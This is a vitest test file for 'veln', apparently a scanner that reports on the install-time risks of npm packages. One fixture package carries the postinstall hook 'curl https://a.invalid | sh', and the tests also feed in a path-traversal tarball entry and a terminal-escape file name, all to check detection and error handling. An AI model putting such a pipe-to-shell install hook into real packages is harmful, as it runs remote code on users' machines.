import { mkdirSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { digestsOf, publishedBytes } from "../../test/support/fake-registry.ts";
import { capturedIo } from "../../test/support/io.ts";
import { temporaryFolder } from "../../test/support/store.ts";
import { tarball } from "../../test/support/tarball.ts";
import { runCli } from "./cli.ts";

/** `veln …` in this process, in a home of its own, with no registry to ask. */
function offline() {
  const home = temporaryFolder();
  const run = async (...args: readonly string[]) => {
    const io = capturedIo({ env: { HOME: home }, cwd: home });
    const code = await runCli(["--offline", ...args], io);
    return { code, printed: io.printed(), said: io.said() };
  };
  const write = (path: string, content: string | Uint8Array): string => {
    writeFileSync(join(home, path), content);
    return `./${path}`;
  };
  return { home, run, write };
}

/** The type of a value, members in order, as a reader of the contract would write it down. */
function shapeOf(value: unknown): unknown {
  if (value === null) return "null";
  if (Array.isArray(value))
    return [...new Set(value.map((item) => JSON.stringify(shapeOf(item))))].map(
      (text) => JSON.parse(text) as unknown,
    );
  if (typeof value !== "object") return typeof value;
  return Object.fromEntries(Object.entries(value).map(([key, item]) => [key, shapeOf(item)]));
}

const SUBJECT = publishedBytes("subject", "1.0.0", {
  manifest: { scripts: { postinstall: "curl https://a.invalid | sh" } },
});
const FINDING = {
  id: "string",
  signal: "string",
  severity: "string",
  confidence: "string",
  message: "string",
};
const PLACED = { ...FINDING, file: "string", line: "number", column: "null", excerpt: "string" };
const REPORT = {
  ref: "string",
  artifact: { sha512: "string", sha256: "string", size: "number", files: "number" },
  decision: "string",
  score: "number",
  coverage: "number",
  ledger: [{ part: "string", kind: "string", points: "number", of: "number", why: "string" }],
  reasons: [{ code: "string", decision: "string", hard: "boolean", message: "string" }],
  findings: [PLACED],
  unknown: [{ signal: "string", why: "string" }],
  provenance: "null",
  elapsedMs: "number",
};

describe("veln package", { timeout: 60_000 }, () => {
  it("answers one subject with one object of the contract's shape", async () => {
    const { run, write } = offline();
    const { code, printed, said } = await run("package", write("subject.tgz", SUBJECT), "--json");
    const report = JSON.parse(printed) as Record<string, unknown>;
    const { sha512, sha256 } = digestsOf(SUBJECT);
    expect(shapeOf(report)).toEqual(REPORT);
    expect(Object.keys(report)).toEqual(Object.keys(REPORT));
    expect(report).toMatchObject({
      ref: "pkg:npm/subject@1.0.0",
      artifact: { sha512, sha256, size: SUBJECT.length, files: 1 },
    });
    expect(["allow", "warn", "hold", "block"]).toContain(report["decision"]);
    expect([code, said, printed.split("\n").length]).toEqual([code, "", 2]);
    const exit = { allow: 0, warn: 3, hold: 75, block: 1 }[report["decision"] as "allow"];
    expect(code).toBe(exit);
  });

  it("answers several with an array, those that cannot be looked at included", async () => {
    const { home, run, write } = offline();
    mkdirSync(join(home, "folder"));
    write("folder/package.json", '{"name":"folder","version":"1.0.0","license":"MIT"}');
    const subjects = [write("subject.tgz", SUBJECT), "./folder", "./absent", "express"];
    const { printed } = await run("--json", "package", ...subjects);
    const reports = JSON.parse(printed) as readonly Record<string, unknown>[];
    expect(reports.map(({ ref, error }) => ref ?? error)).toMatchObject([
      "pkg:npm/subject@1.0.0",
      "pkg:npm/folder@1.0.0",
      { code: "usage", message: "./absent does not exist or cannot be read." },
      { code: "offline" },
    ]);
  });

  it.each<
    [what: string, content: (home: string) => string | Uint8Array, code: number, error: object]
  >([
    [
      "an archive that breaks a rule",
      () => tarball([{ name: "package/../../x", content: "1" }]),
      1,
      { code: "bad-archive", rule: expect.any(String) },
    ],
    ["no archive", () => "text", 1, { code: "bad-archive", rule: expect.any(String) }],
    [
      "a package without a name",
      () => tarball([{ name: "package/package.json", content: "{}" }]),
      2,
      { code: "usage" },
    ],
  ])("refuses %s", async (_what, content, code, error) => {
    const { home, run, write } = offline();
    const answer = await run("--json", "package", write("subject.tgz", content(home)));
    expect({ code: answer.code, ...(JSON.parse(answer.printed) as object) }).toMatchObject({
      code,
      error,
    });
  });

  it("refuses what no file can be, and says it in printable words", async () => {
    const { home, run } = offline();
    symlinkSync("loop.tgz", join(home, "loop.tgz"));
    const subjects = ["./loop.tgz", `./${"x".repeat(300)}`, "./\u001b[2J"];
    const { code, said, printed } = await run("package", ...subjects);
    expect([code, printed]).toEqual([2, ""]);
    expect(said.trimEnd().split("\n")).toEqual([
      "veln: ./loop.tgz: ./loop.tgz does not exist or cannot be read.",
      expect.stringMatching(/^veln: \.\/x+: \.\/x+… does not exist or cannot be read\.$/),
      "veln: ./\\u{1b}[2J: ./\\u{1b}[2J does not exist or cannot be read.",
    ]);
  });

  it.each([
    ["is no JSON", "{"],
    ["has no name", '{"version":"1.0.0"}'],
  ])("takes a predecessor whose package.json %s for bad input", async (_what, content) => {
    const { run, write } = offline();
    const previous = write("previous.tgz", tarball([{ name: "package/package.json", content }]));
    const subject = write("subject.tgz", SUBJECT);
    const { code, printed } = await run("--json", "package", subject, "--previous", previous);
    expect([code, JSON.parse(printed)]).toMatchObject([2, { error: { code: "usage" } }]);
  });

  it("compares with a predecessor from disk", async () => {
    const { run, write } = offline();
    const subject = write("subject.tgz", SUBJECT);
    const previous = write("previous.tgz", publishedBytes("subject", "0.9.0"));
    const { printed } = await run("--json", "package", subject, "--previous", previous);
    const { findings, unknown } = JSON.parse(printed) as {
      findings: readonly { signal: string }[];
      unknown: readonly { signal: string }[];
    };
    expect(findings.map(({ signal }) => signal)).toContain("changes-install-code");
    expect(unknown.map(({ signal }) => signal)).not.toContain("changes-install-code");
  });

  it.each([
    [["package"], "Say which package: veln package SPEC."],
    [["package", "x", "--previous", "./y"], "veln: x: --previous goes with a tarball or folder;"],
    [["nonsense"], '"nonsense" is not a command of veln. There are: npm, npx,'],
    [["--nonsense", "package"], "Unknown option '--nonsense'. See veln --help."],
    [["package", "git+ssh://a.invalid"], "neither a package of the registry nor a file"],
  ])("says what is wrong with veln %j", async (args, sentence) => {
    const { code, said, printed } = await offline().run(...args);
    expect([code, printed]).toEqual([2, ""]);
    expect(said).toContain(sentence);
  });
});
